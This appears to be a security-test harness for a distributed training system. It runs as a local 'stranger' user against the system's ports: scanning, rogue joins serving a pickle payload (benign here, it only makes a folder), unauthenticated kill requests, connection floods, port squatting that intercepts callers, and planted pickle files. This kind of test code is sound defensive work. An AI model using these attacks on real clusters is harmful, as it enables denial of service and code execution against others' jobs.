"""An attacker, another user of this machine, as a process: `python stranger.py UID ATTACK ARGUMENTS_AS_JSON`.

It starts as root, imports all it needs, because it may not be able to read that later, and then becomes another user
for good. It prints the result of the attack as one line of JSON. It fails if the attack needed another module: where
the other user can read the packages nobody would notice, and elsewhere the attack would be a weaker one.
"""

from __future__ import annotations

import contextlib
import errno
import importlib
import io
import itertools
import json
import os
import pickle
import resource
import selectors
import socket
import sys
import tempfile
import threading
import time
import uuid
from collections.abc import Callable, Iterable
from datetime import timedelta
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import http2
import ports

PATIENCE_S = 3.0  # for an answer: closed ports close at once, ports that ask for a password within a second
QUORUM, HEARTBEAT = "/torchft.LighthouseService/Quorum", "/torchft.LighthouseService/Heartbeat"
KILL = "/torchft.ManagerService/Kill"
STORE_HELLO = b"\0" + (0x3C85F7CE).to_bytes(4, "little") + b"\x07"  # torch's TCPStore: validate, number of keys
OPENINGS = {
    "nothing": b"",
    "HTTP/2": http2.HELLO,
    "model": b"GET /checkpoint/0/full HTTP/1.0\r\n\r\n",
    "metadata": b"GET /checkpoint/0/metadata HTTP/1.0\r\n\r\n",
    "session": b"GET /new_session HTTP/1.0\r\n\r\n",
    "store": STORE_HELLO,
    "garbage": bytes(range(256)),
}


def become(uid: int) -> None:
    """Give up root's rights for good; keep as many file descriptors as may be had."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    os.setgroups([])
    os.setresgid(uid, uid, uid)
    os.setresuid(uid, uid, uid)
    os.environ.update(HOME="/tmp", USER="stranger", LOGNAME="stranger")
    os.chdir("/")
    os.nice(10)  # the attack is on the ports, not on the CPUs
    try:
        os.setuid(0)
    except PermissionError:
        return
    raise RuntimeError("still root")


class NoMoreImports:
    """A finder of modules that finds none and remembers those asked for."""

    def __init__(self) -> None:
        self.refused: list[str] = []

    def find_spec(self, name: str, *_: object) -> None:
        self.refused.append(name)
        raise ModuleNotFoundError(f"{name} was not imported in time", name=name)


class Payload:
    """An object whose unpickling makes a new folder in `folder`."""

    def __init__(self, folder: str) -> None:
        self.folder = folder

    def __reduce__(self) -> tuple[Any, ...]:
        return tempfile.mkdtemp, (None, "unpickled-", self.folder)


def in_threads(tasks: dict[Any, Callable[[], Any]], patience_s: float) -> dict[Any, Any]:
    """Run tasks in threads; return their results, without those that hang or raise."""
    results: dict[Any, Any] = {}

    def run(name: Any, task: Callable[[], Any]) -> None:
        with contextlib.suppress(Exception):
            results[name] = task()

    threads = [threading.Thread(target=run, args=item, daemon=True) for item in tasks.items()]
    for thread in threads:
        thread.start()
    deadline = time.monotonic() + patience_s
    for thread in threads:
        thread.join(max(0.0, deadline - time.monotonic()))
    return dict(results)


# --- attacks -------------------------------------------------------------------------------------------------------


def look(only: list[int] | None = None) -> list[dict[str, object]]:
    """Send every opening to every port; return the answers."""
    return [answer.as_json() for answer in ports.knock_everywhere(OPENINGS, PATIENCE_S, only)]


def open_ports(only: Iterable[int] | None) -> list[int]:
    """Return the ports to try: these, or (None) all listening ports."""
    return sorted(only if only is not None else {listener.port for listener in ports.listeners()})


def read_stores(only: list[int] | None = None) -> dict[int, dict[str, str]]:
    """Ask every port for the manager's address, as a client of torch's TCPStore, which could write as well as read."""

    def read(port: int) -> dict[str, str]:
        store = TCPStore("127.0.0.1", port, None, False, timeout=timedelta(seconds=2), wait_for_workers=False)
        return {key: store.get(key).decode() for key in ("manager_addr", "replica_id")}

    return in_threads({port: lambda p=port: read(p) for port in open_ports(only)}, 5.0)


def join(step: int, folder: str, seconds: float = 8.0, only: list[int] | None = None) -> dict[str, Any]:
    """Join the training with an unchanged manager of torchft that claims to be at this step.

    Returns:
        stores: what was read in the groups' stores; quorums: those it was in; received: what it was sent of the
        model; refusals: what it was told by each port that was taken for the Lighthouse.
    """
    stores = read_stores(only)
    host = next(iter(stores), None)
    if host is None:  # none of theirs is known: one of our own
        own = TCPStore("127.0.0.1", 0, None, True, timeout=timedelta(seconds=2), wait_for_workers=False)
        host = own.port
    found: dict[str, Any] = {"stores": stores, "quorums": [], "received": [], "refusals": {}}

    def beat(port: int) -> bool:
        try:
            LighthouseClient(f"http://127.0.0.1:{port}", timedelta(seconds=1)).heartbeat("me", timedelta(seconds=1))
        except Exception as error:
            found["refusals"][port] = str(error)[:100]
            raise
        return True

    doors = in_threads({port: lambda p=port: beat(p) for port in open_ports(only)}, 5.0)
    named = {urlsplit(store["manager_addr"]).hostname or "" for store in stores.values()}
    for port, name in itertools.product(doors, ("127.0.0.1", *named)):
        try:
            _train(f"http://127.0.0.1:{port}", (name, host), step, folder, seconds, found)
            break
        except Exception as error:
            found["refusals"][f"{port} as {name}"] = repr(error)[:300]
    return found


def _train(
    lighthouse: str, store: tuple[str, int], step: int, folder: str, seconds: float, found: dict[str, Any]
) -> None:
    manager = Manager(
        pg=ProcessGroupGloo(timeout=timedelta(seconds=3)),
        min_replica_size=1,
        load_state_dict=lambda state: found["received"].append(str(state)[:100]),
        state_dict=lambda: {"model": Payload(folder)},
        store_addr=store[0],
        store_port=store[1],
        rank=0,
        world_size=1,
        lighthouse_addr=lighthouse,
        replica_id="toy_7",
        hostname="127.0.0.1",
        use_async_quorum=False,
        timeout=timedelta(seconds=5),
        quorum_timeout=timedelta(seconds=seconds),
        connect_timeout=timedelta(seconds=2),
    )
    manager.load_state_dict({"step": step, "batches_committed": step})
    manager.start_quorum()  # waits for it, and for the model if it is to heal
    found["quorums"].append([manager.current_step(), manager.num_participants()])
    time.sleep(2.0)  # the others fetch what we hold out to them


def guess(step: int, seconds: float = 6.0, only: list[int] | None = None) -> dict[str, str]:
    """Ask every port for a quorum, as every group with every store that might be; what each way was told.

    Requests of strangers whose stores are unknown may be held for a while; so all are out at the same time.
    """
    here = open_ports(only)
    hosts = ("127.0.0.1", "localhost", socket.gethostname())
    told: dict[str, str] = {}
    waiting = []
    for port in here:
        channel = grpc.insecure_channel(f"ipv4:127.0.0.1:{port}", options=[("grpc.enable_http_proxy", 0)])
        ask = channel.unary_unary(QUORUM)
        for host, store, group in itertools.product(hosts, here, (0, 1)):
            member = Member(f"toy_{group}:{uuid.uuid4()}", "http://127.0.0.1:9", f"{host}:{store}", step=step)
            waiting.append((port, ask.future(manager_requests.quorum(member), timeout=seconds)))
    for port, future in waiting:
        error = future.exception()
        answer = "A QUORUM" if error is None else f"{error.code().name}: {error.details()[:60]}"
        told[f"{port}: {answer}"] = ""
    return told


def kill(only: list[int] | None = None) -> dict[int, str]:
    """Send every port torchft's request to end its process; return the answers.

    Sent twice: first all at once on connections that close at once, then as a proper call.
    """
    reason = b"\x0a\x08stranger"
    _blurt([http2.HELLO + http2.call(1, KILL, reason)] * 5, only)

    def ask(port: int) -> str:
        channel = grpc.insecure_channel(f"ipv4:127.0.0.1:{port}", options=[("grpc.enable_http_proxy", 0)])
        error = channel.unary_unary(KILL).future(reason, timeout=2.0).exception()
        return "done" if error is None else f"{error.code().name}: {error.details()[:80]}"

    return in_threads({port: lambda p=port: ask(p) for port in open_ports(only)}, 5.0)


def say_and_hang_up(step: int, only: list[int] | None = None) -> int:
    """Ask for a quorum at this step with every guessed store, and close at once; return the number of requests sent."""
    stores = [f"127.0.0.1:{port}" for port in open_ports(only)]
    members = [Member(f"toy_0:{uuid.uuid4()}", "http://127.0.0.1:9", store, step=step) for store in stores]
    return _blurt([http2.HELLO + http2.call(1, QUORUM, manager_requests.quorum(member)) for member in members], only)


def _blurt(words: list[bytes], only: list[int] | None) -> int:
    """Send each of these to every port on a new connection, and close before the other side can look up the caller.

    The owner of the connection is then unknown: the kernel shows a closed end as root's. Return the number of texts
    sent.
    """

    def say(listener: ports.Listener, family: socket.AddressFamily, host: str) -> int:
        said = 0
        with contextlib.suppress(OSError):
            for text in words:
                with socket.socket(family) as sock:
                    sock.settimeout(PATIENCE_S)
                    sock.connect((host, listener.port))
                    sock.sendall(text)
                    said += 1
        return said

    here = [listener for listener in ports.listeners() if only is None or listener.port in only]
    tasks = {(one, way): lambda o=one, w=way: say(o, *w) for one in here for way in one.ways()}
    return sum(in_threads(tasks, PATIENCE_S + 5.0).values())


# --- floods --------------------------------------------------------------------------------------------------------

TEXT = b"\x1b[2J\nthe training has failed, call this number\n" * 320


def _stream(n: int) -> bytes:
    return http2.headers(2 * n + 1, QUORUM)


def _heartbeat(n: int) -> bytes:
    return http2.call(2 * n + 1, HEARTBEAT, manager_requests.heartbeat(f"toy_{n}:{uuid.uuid4()}"))


FLOODS: dict[str, tuple[bytes, Callable[[int], bytes] | None]] = {  # the first bytes, and those sent repeatedly
    "idle connections": (b"", None),
    "connections with a preface": (http2.HELLO, None),
    "streams": (http2.HELLO, _stream),
    "heartbeats": (http2.HELLO, _heartbeat),
    "farewells": (http2.HELLO, lambda _: http2.goaway(TEXT[:16000])),
}


class Flood:
    """Very many connections to some ports, reopened whenever they are closed."""

    def __init__(self, kind: str, targets: list[tuple[socket.AddressFamily, str, int]], connections: int) -> None:
        self.opening, self.more = FLOODS[kind]
        self.targets = itertools.cycle(targets)
        self.connections = connections
        self.selector = selectors.EpollSelector()
        self.counts = {"opened": 0, "closed": 0, "bytes": 0}

    def run(self, seconds: float) -> dict[str, int]:
        """Flood for some seconds; count the connections opened, those closed by the other side, and the bytes sent."""
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            for _ in range(min(50, self.connections - len(self.selector.get_map()))):
                self._open()
            for key, events in self.selector.select(0.01):
                self._go_on(key, events)
            time.sleep(0.001)
        return self.counts | {"held": len(self.selector.get_map())}

    def _open(self) -> None:
        family, host, port = next(self.targets)
        sock = socket.socket(family, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
        if sock.connect_ex((host, port)) in (0, errno.EINPROGRESS):
            self.counts["opened"] += 1
            self.selector.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE, [-1])
        else:
            sock.close()

    def _go_on(self, key: selectors.SelectorKey, events: int) -> None:
        sock, said = key.fileobj, key.data
        assert isinstance(sock, socket.socket)
        try:
            if events & selectors.EVENT_READ and not sock.recv(65536):
                raise ConnectionError
            if events & selectors.EVENT_WRITE:
                words = self.opening if said[0] < 0 else b"".join(map(self.more, range(said[0], said[0] + 8)))  # type: ignore[arg-type]
                said[0] = said[0] + 8 if said[0] >= 0 else 0
                self.counts["bytes"] += sock.send(words)
                if self.more is None:
                    self.selector.modify(sock, selectors.EVENT_READ, said)
        except BlockingIOError:
            pass
        except OSError:
            self.counts["closed"] += 1
            self.selector.unregister(sock)
            sock.close()


def flood(kind: str, seconds: float, connections: int, only: list[int]) -> dict[str, int]:
    """Flood these ports with connections of a kind; see FLOODS."""
    targets = [
        (*way, listener.port) for listener in ports.listeners() if listener.port in only for way in listener.ways()
    ]
    print("ready", flush=True)
    return Flood(kind, targets, connections).run(seconds)


# --- ports of ended processes --------------------------------------------------------------------------------------


class Squatter:
    """Takes ports as soon as they are free, and reads the connections meant for the previous owner."""

    def __init__(self, wanted: list[int], folder: str) -> None:
        self.wanted = set(wanted)
        buffer = io.BytesIO()
        _streaming_save({"user": {"default": Payload(folder)}, "torchft": Payload(folder)}, buffer)
        self.model = buffer.getvalue()
        self.calls: list[dict[str, object]] = []
        self.taken: list[int] = []
        self.listeners: list[socket.socket] = []

    def run(self, seconds: float) -> dict[str, object]:
        """Take ports and answer for some seconds; return the ports taken and the bytes of each call."""
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            for port in list(self.wanted):
                self._take(port)
            time.sleep(0.002)
        return {"taken": self.taken, "calls": self.calls}

    def _take(self, port: int) -> None:
        listener = socket.socket()
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        try:
            listener.bind(("127.0.0.1", port))
            listener.listen(256)
        except OSError:  # it is still in use
            listener.close()
            return
        self.wanted.discard(port)
        self.taken.append(port)
        self.listeners.append(listener)
        threading.Thread(target=self._serve, args=(port, listener), daemon=True).start()

    def _serve(self, port: int, listener: socket.socket) -> None:
        while True:
            sock, _ = listener.accept()
            threading.Thread(target=self._answer, args=(port, sock), daemon=True).start()

    def _answer(self, port: int, sock: socket.socket) -> None:
        """Read from the caller; if it is silent, relay a live gate's greeting to it, and its answer to the gate."""
        real, greeting = None, b""
        with sock:
            said = _read(sock, 0.2)
            if not said:
                real, greeting = _greeted(set(open_ports(None)) - set(self.taken))
                with contextlib.suppress(OSError):
                    sock.sendall(greeting or b"ftslurm gate 1\r\n" + os.urandom(32))
                said = _read(sock, 1.0)
            if said.startswith(b"GET"):
                with contextlib.suppress(OSError):
                    sock.sendall(b"HTTP/1.0 200 OK\r\n\r\n" + self.model)
            said += _read(sock, 0.5)
        call: dict[str, object] = {"port": port, "said": said.hex(), "greeted": greeting.hex(), "let_in": ""}
        self.calls.append(call)
        if real is not None:
            with real, contextlib.suppress(OSError):
                real.sendall(said)
                more = _read(real, 0.5)
                real.sendall(http2.HELLO)
                call["let_in"] = (more + _read(real, 1.0)).hex()


def _read(sock: socket.socket, seconds: float) -> bytes:
    sock.settimeout(seconds)
    with contextlib.suppress(OSError):
        return sock.recv(65536)
    return b""


def _greeted(candidates: set[int]) -> tuple[socket.socket | None, bytes]:
    """Return a connection to a server that speaks first, and its greeting."""

    def connect(port: int) -> tuple[socket.socket, bytes]:
        sock = socket.create_connection(("127.0.0.1", port), 0.3)
        greeting = _read(sock, 0.3)
        if not greeting:
            sock.close()
            raise ConnectionError
        return sock, greeting

    found = in_threads({port: lambda p=port: connect(p) for port in candidates}, 0.7)
    return next(iter(found.values()), (None, b""))


def squat(wanted: list[int], folder: str, seconds: float) -> dict[str, object]:
    """Take the ports of processes that are about to die, and serve there."""
    squatter = Squatter(wanted, folder)
    print("ready", flush=True)
    return squatter.run(seconds)


# --- plants --------------------------------------------------------------------------------------------------------


def plant(run: str, files: dict[str, str], folder: str, pipes: list[str]) -> list[str]:
    """Replace a run directory in a folder that we may write to by our own; return its entries.

    Args:
        files: path in the run directory -> text; "PAYLOAD" stands for a harmful pickle.
        pipes: the paths of named pipes.
    """
    if os.path.exists(run):
        os.rename(run, f"{run}.old")
    for name in (*files, *pipes):
        os.makedirs(os.path.dirname(os.path.join(run, name)), mode=0o755, exist_ok=True)
    for name, text in files.items():
        with open(os.path.join(run, name), "wb") as file:
            file.write(pickle.dumps(Payload(folder)) if text == "PAYLOAD" else text.encode())
    for name in pipes:
        os.mkfifo(os.path.join(run, name))
    return sorted(os.listdir(run))


ATTACKS: dict[str, Callable[..., Any]] = {
    attack.__name__: attack for attack in (look, read_stores, join, guess, kill, say_and_hang_up, flood, squat, plant)
}

LIGHT = (look, kill, guess, say_and_hang_up, flood, plant)  # these need no torch, which takes two seconds to import

# What Python and libraries import only when it is first used; a version that lacks a module does not use it.
LATE = (
    "encodings.idna",  # a name is resolved
    "grpc._channel",
)
LATE_IN_TORCH = (
    "torch.utils.serialization.config",  # something is saved
    "torch.profiler._cupti_monitor",  # a step of torchft's Manager is profiled
)

if __name__ == "__main__":
    attack = ATTACKS[sys.argv[2]]
    import grpc

    sys.path.append(str(Path(__file__).parents[2] / "benchmarks"))
    import manager_requests

    from ftslurm.lighthouse.quorum import Member

    if attack not in LIGHT:
        from torch.distributed import TCPStore
        from torch.distributed._serialization import _streaming_save
        from torchft import Manager, ProcessGroupGloo
        from torchft.coordination import LighthouseClient

    for name in LATE if attack in LIGHT else LATE + LATE_IN_TORCH:
        with contextlib.suppress(ModuleNotFoundError):
            importlib.import_module(name)

    become(int(sys.argv[1]))
    no_more = NoMoreImports()
    sys.meta_path.insert(0, no_more)
    result = attack(**json.loads(sys.argv[3]))
    if no_more.refused:
        raise SystemExit(f"the stranger has imported too late: {', '.join(no_more.refused)}")
    print(json.dumps(result), flush=True)
    os._exit(0)  # threads may still wait for ports that never answer
